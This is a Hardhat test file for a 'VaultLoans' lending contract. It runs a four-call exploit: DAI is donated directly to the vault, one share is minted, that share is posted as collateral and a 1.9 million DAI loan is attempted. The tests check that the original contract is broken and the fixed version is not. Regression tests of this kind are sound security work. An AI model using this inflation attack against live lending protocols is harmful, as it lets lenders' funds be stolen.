import { expect } from "chai";
import { network } from "hardhat";
import { deploy, type Name } from "./scenario.js";

const ONE = 10n ** 18n;

async function attack(name: Name): Promise<boolean> {
  const { viem } = await network.create();
  const { dai, launched, loans } = await deploy(viem, name);
  const account = (await viem.getWalletClients())[5]!.account;
  await dai.write.mint([account.address, 100_000n * ONE]);
  await dai.write.approve([launched.address, 2n ** 256n - 1n], { account });
  await launched.write.approve([loans.address, 2n ** 256n - 1n], { account });
  expect(await loans.read.invariant_loansAreBacked()).to.equal(true);

  await dai.write.transfer([launched.address, 2_000n * ONE], { account });
  await launched.write.mint([1n, account.address], { account });
  await loans.write.addCollateral([1n, 1n], { account });
  await loans.write.borrow([1n, 1_900_000n * ONE], { account }).catch(() => {});
  return loans.read.invariant_loansAreBacked();
}

describe("VaultLoans", () => {
  it("is broken by four calls", async () => expect(await attack("VaultLoans")).to.equal(false));
  it("is not broken once fixed", async () => expect(await attack("VaultLoansFixed")).to.equal(true));
});
